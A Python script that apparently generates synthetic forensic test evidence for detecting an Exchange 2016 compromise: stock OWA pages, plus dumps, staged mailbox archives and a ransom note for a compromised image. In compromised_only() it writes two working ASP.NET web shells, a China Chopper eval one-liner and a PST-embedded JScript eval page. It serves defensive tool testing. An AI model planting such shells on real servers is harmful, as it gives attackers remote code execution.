#!/usr/bin/env python3
"""Write the disk side of the demo evidence: web folders, dumps, staging archives, ransomware
leftovers (EX01) and the stock files a clean server has (both). Deterministic, synthetic: no
byte of it comes from a real web shell or a real Exchange install.

    python3 examples/generate_files.py        # (re)writes the files below examples/
"""
import io
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
EX01 = os.path.join(HERE, "compromised-ex2016", "C")
EX02 = os.path.join(HERE, "clean-ex2016", "uploads", "auto", "C%3A")
INSTALL01 = os.path.join(EX01, "Program Files", "Microsoft", "Exchange Server", "V15")
INSTALL02 = os.path.join(EX02, "Exchange", "V15")
FIXED_ZIP_TIME = (2021, 3, 4, 2, 20, 42)


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(data, bytes) else "w"
    with open(path, mode, newline="" if mode == "w" else None) as f:
        f.write(data)


def stock_owa_auth(install, build):
    """Stock-looking OWA logon pages (synthetic text, the names Exchange ships)."""
    auth = os.path.join(install, "FrontEnd", "HttpProxy", "owa", "auth")
    pages = {
        "logon.aspx": "Microsoft.Exchange.HttpProxy.Logon",
        "logoff.aspx": "Microsoft.Exchange.HttpProxy.Logoff",
        "errorFE.aspx": "Microsoft.Exchange.HttpProxy.ErrorFE",
        "expiredpassword.aspx": "Microsoft.Exchange.HttpProxy.ExpiredPassword",
        "frowny.aspx": "Microsoft.Exchange.HttpProxy.Frowny",
        "OutlookCN.aspx": "Microsoft.Exchange.HttpProxy.OutlookCN",
        "RedirSuiteServiceProxy.aspx": "Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy",
        "signout.aspx": "Microsoft.Exchange.HttpProxy.Signout",
    }
    for name, cls in pages.items():
        write(
            os.path.join(auth, name),
            f'<%@ Page language="c#" AutoEventWireup="false" Inherits="{cls}" %>\r\n'
            f'<%@ Import namespace="Microsoft.Exchange.Clients" %>\r\n'
            "<!DOCTYPE html>\r\n<html><head><title>Outlook</title>\r\n"
            f'<link rel="stylesheet" href="/owa/auth/{build}/themes/resources/logon.css">\r\n'
            "</head><body class=\"signInBg\"><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\">\r\n"
            "<input id=\"username\" name=\"username\" type=\"text\"><input id=\"password\" name=\"password\" type=\"password\">\r\n"
            "</form></body></html>\r\n",
        )
    res = os.path.join(auth, build, "themes", "resources")
    write(os.path.join(res, "logon.css"), ".signInBg { background-color: #0072c6; }\r\n.logonDiv { width: 300px; }\r\n")
    write(os.path.join(res, "owafont_ja.css"), "@font-face { font-family: 'Segoe UI'; }\r\n")
    write(
        os.path.join(install, "FrontEnd", "HttpProxy", "ecp", "auth", "TimeoutLogoff.aspx"),
        '<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.TimeoutLogoff" %>\r\n<html><body>Signed out</body></html>\r\n',
    )


def stock_web_root(drive):
    www = os.path.join(drive, "inetpub", "wwwroot")
    write(os.path.join(www, "iisstart.htm"), "<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body><img src=\"iisstart.png\"></body></html>\r\n")
    write(os.path.join(www, "iisstart.png"), b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    write(
        os.path.join(www, "aspnet_client", "system_web", "4_0_30319", "WebUIValidation.js"),
        "var Page_ValidationVer = \"125\";\r\nfunction ValidatorUpdateDisplay(val) { val.style.visibility = val.isvalid ? \"hidden\" : \"visible\"; }\r\n",
    )
    write(
        os.path.join(www, "web.config"),
        '<?xml version="1.0" encoding="UTF-8"?>\r\n<configuration>\r\n  <system.webServer>\r\n'
        '    <httpRedirect enabled="true" destination="/owa" />\r\n  </system.webServer>\r\n</configuration>\r\n',
    )
    # A benign intranet page that uses eval-like words (data binding, JavaScript eval of JSON).
    write(
        os.path.join(www, "intranet", "phonebook.aspx"),
        '<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="phonebook.aspx.cs" Inherits="Intranet.Phonebook" %>\r\n'
        "<html><body><asp:Repeater ID=\"people\" runat=\"server\"><ItemTemplate>\r\n"
        "<tr><td><%# DataBinder.Eval(Container.DataItem, \"Name\") %></td><td><%# Eval(\"Phone\") %></td></tr>\r\n"
        "</ItemTemplate></asp:Repeater>\r\n<script>var data = eval('(' + document.getElementById('j').value + ')');</script>\r\n"
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\">\r\n"
        "</body></html>\r\n",
    )
    config = os.path.join(drive, "Windows", "System32", "inetsrv", "config", "applicationHost.config")
    write(
        config,
        '<?xml version="1.0" encoding="UTF-8"?>\r\n<configuration>\r\n  <system.applicationHost>\r\n    <sites>\r\n'
        '      <site name="Default Web Site" id="1">\r\n'
        '        <application path="/" applicationPool="DefaultAppPool">\r\n'
        '          <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />\r\n'
        "        </application>\r\n"
        '        <application path="/owa" applicationPool="MSExchangeOWAAppPool">\r\n'
        '          <virtualDirectory path="/" physicalPath="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa" />\r\n'
        "        </application>\r\n      </site>\r\n    </sites>\r\n  </system.applicationHost>\r\n</configuration>\r\n",
    )


def zip_bytes(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def vendor_zip(drive):
    """An antivirus update archive in ProgramData: what made Test-ProxyLogon cry wolf."""
    write(
        os.path.join(drive, "ProgramData", "McAfee", "Common Framework", "Update", "catalog.zip"),
        zip_bytes([("catalog.xml", "<Catalog version=\"20210301\"><Product id=\"VSCANDAT1000\"/></Catalog>\n")]),
    )


def fake_pst(subject):
    """Bytes that start like a PST file (the !BDN signature), then junk and a subject line."""
    body = b"!BDN" + bytes([0x0E, 0x00, 0x00, 0x00]) + b"SM" + bytes(502)
    return body + subject.encode() + bytes(range(64))


def compromised_only():
    # China Chopper one-liner dropped through the OAB file write (CVE-2021-26858).
    write(
        os.path.join(EX01, "inetpub", "wwwroot", "aspnet_client", "system_web", "KZsqDfnb.aspx"),
        '<%@ Page Language="Jscript"%><%eval(Request.Item["klk123456"],"unsafe");%>',
    )
    # The mailbox export written as a page (Exchange Management #15 on 2021-03-04 09:14:07): a
    # PST whose draft carries the script that ASP.NET runs.
    auth = os.path.join(INSTALL01, "FrontEnd", "HttpProxy", "owa", "auth")
    write(
        os.path.join(auth, "errorEE.aspx"),
        fake_pst("errorEE")
        + b'<script language="JScript" runat="server">function Page_Load(){eval(Request["errorEE"],"unsafe");}</script>'
        + bytes(128),
    )
    # carol's mailbox exported into a web folder through the SSRF's ECP session (ECP server log,
    # 2021-03-03 02:57) and fetched from there by 203.0.113.77 (W3SVC1, 2021-03-03 05:31).
    pst = fake_pst("carol: Inbox")
    write(
        os.path.join(EX01, "inetpub", "wwwroot", "aspnet_client", "system_web", "carol.pst"),
        pst + bytes(range(256)) * ((98304 - len(pst)) // 256) + bytes((98304 - len(pst)) % 256),
    )
    # LSASS dump made with comsvcs.dll MiniDump (Sysmon #16, 2021-03-03 03:05).
    write(
        os.path.join(EX01, "Windows", "Temp", "lsass.dmp"),
        b"MDMP\x93\xa7\x00\x00" + bytes(24) + b"lsass.exe\x00" + bytes(range(256)) * 8,
    )
    # Mailboxes staged for theft with 7-Zip (Sysmon #29, 2021-03-04 02:20).
    write(
        os.path.join(EX01, "ProgramData", "pst", "it.zip"),
        zip_bytes([("alice.pst", fake_pst("Q1 board minutes")), ("bob.pst", fake_pst("M&A"))]),
    )
    # DearCry (service msupdate, System #44 on 2021-03-09): an encrypted file and the note.
    write(
        os.path.join(EX01, "Users", "Public", "Documents", "budget-2021.xlsx.CRYPT"),
        b"DEARCRY!" + bytes(range(256)) * 16,
    )
    write(
        os.path.join(EX01, "Users", "Public", "Documents", "readme.txt"),
        "Your file has been encrypted!\r\nIf you want to decrypt, please contact us.\r\ndecrypt-team@example.invalid\r\n"
        "And please send me the following hash!\r\n0c3c1e3b6b2e0e6d8f2a9c1b7a5d4e3f\r\n",
    )


def main():
    stock_owa_auth(INSTALL01, "15.1.2176")
    stock_owa_auth(INSTALL02, "15.1.2176")
    for drive in (EX01, EX02):
        stock_web_root(drive)
        vendor_zip(drive)
    compromised_only()


if __name__ == "__main__":
    main()
